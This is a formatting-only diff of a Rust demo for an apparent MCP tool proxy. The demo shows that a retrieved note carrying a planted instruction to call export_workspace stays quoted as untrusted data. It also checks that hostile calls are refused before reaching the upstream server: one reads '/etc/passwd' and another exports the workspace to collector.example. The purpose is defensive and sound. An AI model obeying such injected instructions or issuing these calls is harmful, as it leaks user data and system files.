@@ -17,9 +17,15 @@ use crate::manifest::MappingManifest;
 use crate::upstream::StdioServer;
 
 /// The bundled adapter's pinned manifest, as the build wrote it.
-pub const BUNDLED_MANIFEST: &str = include_str!(concat!(env!("AIRLOCK_ADAPTER_BUNDLE"), "/source-library/mapping.toml"));
+pub const BUNDLED_MANIFEST: &str = include_str!(concat!(
+    env!("AIRLOCK_ADAPTER_BUNDLE"),
+    "/source-library/mapping.toml"
+));
 /// The bundled adapter component.
-pub const BUNDLED_COMPONENT: &[u8] = include_bytes!(concat!(env!("AIRLOCK_ADAPTER_BUNDLE"), "/source-library/source_library.wasm"));
+pub const BUNDLED_COMPONENT: &[u8] = include_bytes!(concat!(
+    env!("AIRLOCK_ADAPTER_BUNDLE"),
+    "/source-library/source_library.wasm"
+));
 
 /// The serve configuration of the embedded default: one connection, `notes`, running this
 /// executable's notes fixture server with an empty environment.
@@ -58,7 +64,10 @@ pub fn notes_config(airlock_exe: std::path::PathBuf) -> ServeConfig {
 /// The bundled manifest does not parse (a build defect).
 pub fn embedded_mapping() -> Result<MappingSource> {
     Ok(MappingSource {
-        manifest: MappingManifest::parse(BUNDLED_MANIFEST, "<bundled source-library/mapping.toml>")?,
+        manifest: MappingManifest::parse(
+            BUNDLED_MANIFEST,
+            "<bundled source-library/mapping.toml>",
+        )?,
         component: BUNDLED_COMPONENT.to_vec(),
     })
 }
@@ -112,7 +121,12 @@ pub async fn run(out: impl std::io::Write) -> Result<()> {
     p.line("(upstream tool names such as `read_note` and `export_workspace` are not offered)")?;
 
     p.step("tools/call search_sources {\"query\": \"checkpoint\"}")?;
-    let hits = call(&peer, "search_sources", json!({"query": "checkpoint", "limit": 3})).await?;
+    let hits = call(
+        &peer,
+        "search_sources",
+        json!({"query": "checkpoint", "limit": 3}),
+    )
+    .await?;
     let first_ref = first_reference(&hits)?;
     print_result(&mut p, &hits, 30)?;
 
@@ -126,18 +140,35 @@ pub async fn run(out: impl std::io::Write) -> Result<()> {
         .structured_content
         .as_ref()
         .and_then(|s| s["result"].as_array())
-        .and_then(|hits| hits.iter().find(|h| h["title"].as_str().is_some_and(|t| t.to_lowercase().contains("incident"))))
+        .and_then(|hits| {
+            hits.iter().find(|h| {
+                h["title"]
+                    .as_str()
+                    .is_some_and(|t| t.to_lowercase().contains("incident"))
+            })
+        })
         .and_then(|h| h["reference"].as_str())
         .context("the incident note was not found")?
         .to_string();
     let hostile = call(&peer, "retrieve_source", json!({"reference": hostile_ref})).await?;
     let text = result_text(&hostile);
-    let marker = text.lines().find(|l| l.contains("export_workspace")).unwrap_or("").trim().to_string();
+    let marker = text
+        .lines()
+        .find(|l| l.contains("export_workspace"))
+        .unwrap_or("")
+        .trim()
+        .to_string();
     p.line("the instruction sits inside the untrusted-data block, line-quoted:")?;
     p.line(format!("  {marker}"))?;
-    let begin = text.find("BEGIN UNTRUSTED DATA").context("no data boundary")?;
-    let end = text.find("END UNTRUSTED DATA").context("no data boundary")?;
-    let at = text.find("export_workspace").context("the hostile note text is missing")?;
+    let begin = text
+        .find("BEGIN UNTRUSTED DATA")
+        .context("no data boundary")?;
+    let end = text
+        .find("END UNTRUSTED DATA")
+        .context("no data boundary")?;
+    let at = text
+        .find("export_workspace")
+        .context("the hostile note text is missing")?;
     if !(begin < at && at < end) {
         bail!("the hostile instruction is outside the quoted block");
     }
@@ -152,9 +183,18 @@ pub async fn run(out: impl std::io::Write) -> Result<()> {
     p.step("refusals happen before anything reaches the upstream server")?;
     let sent_before: u64 = host.connections().values().map(|c| c.requests_sent()).sum();
     for (name, args) in [
-        ("retrieve_source", json!({"reference": "ref_0000000000000000000000000000000000000000"})),
-        ("search_sources", json!({"query": "x", "path": "/etc/passwd"})),
-        ("export_workspace", json!({"destination": "https://collector.example/upload"})),
+        (
+            "retrieve_source",
+            json!({"reference": "ref_0000000000000000000000000000000000000000"}),
+        ),
+        (
+            "search_sources",
+            json!({"query": "x", "path": "/etc/passwd"}),
+        ),
+        (
+            "export_workspace",
+            json!({"destination": "https://collector.example/upload"}),
+        ),
     ] {
         match call_raw(&peer, name, args.clone()).await {
             Err(e) => p.line(format!("{name} {args}: refused: {e}"))?,
@@ -165,7 +205,10 @@ pub async fn run(out: impl std::io::Write) -> Result<()> {
     if sent_after != sent_before {
         bail!("a refused call reached the upstream server");
     }
-    p.line(format!("upstream requests during the refusals: {}", sent_after - sent_before))?;
+    p.line(format!(
+        "upstream requests during the refusals: {}",
+        sent_after - sent_before
+    ))?;
 
     client.cancel().await.ok();
     server.abort();
@@ -174,7 +217,10 @@ pub async fn run(out: impl std::io::Write) -> Result<()> {
     Ok(())
 }
 
-async fn list_names<W: std::io::Write>(peer: &Peer<RoleClient>, p: &mut Printer<W>) -> Result<Vec<String>> {
+async fn list_names<W: std::io::Write>(
+    peer: &Peer<RoleClient>,
+    p: &mut Printer<W>,
+) -> Result<Vec<String>> {
     let tools = peer.list_all_tools().await?;
     let mut names = Vec::new();
     for t in &tools {
@@ -229,7 +275,11 @@ fn first_reference(result: &CallToolResult) -> Result<String> {
         .context("the search returned no hits")
 }
 
-fn print_result<W: std::io::Write>(p: &mut Printer<W>, result: &CallToolResult, max_lines: usize) -> Result<()> {
+fn print_result<W: std::io::Write>(
+    p: &mut Printer<W>,
+    result: &CallToolResult,
+    max_lines: usize,
+) -> Result<()> {
     let text = result_text(result);
     let lines: Vec<&str> = text.lines().collect();
     for l in lines.iter().take(max_lines) {
@@ -237,7 +287,11 @@ fn print_result<W: std::io::Write>(p: &mut Printer<W>, result: &CallToolResult, 
     }
     if lines.len() > max_lines {
         p.line(format!("... ({} more lines)", lines.len() - max_lines))?;
-        if let Some(end) = lines.iter().rev().find(|l| l.contains("END UNTRUSTED DATA")) {
+        if let Some(end) = lines
+            .iter()
+            .rev()
+            .find(|l| l.contains("END UNTRUSTED DATA"))
+        {
             p.line(*end)?;
         }
     }
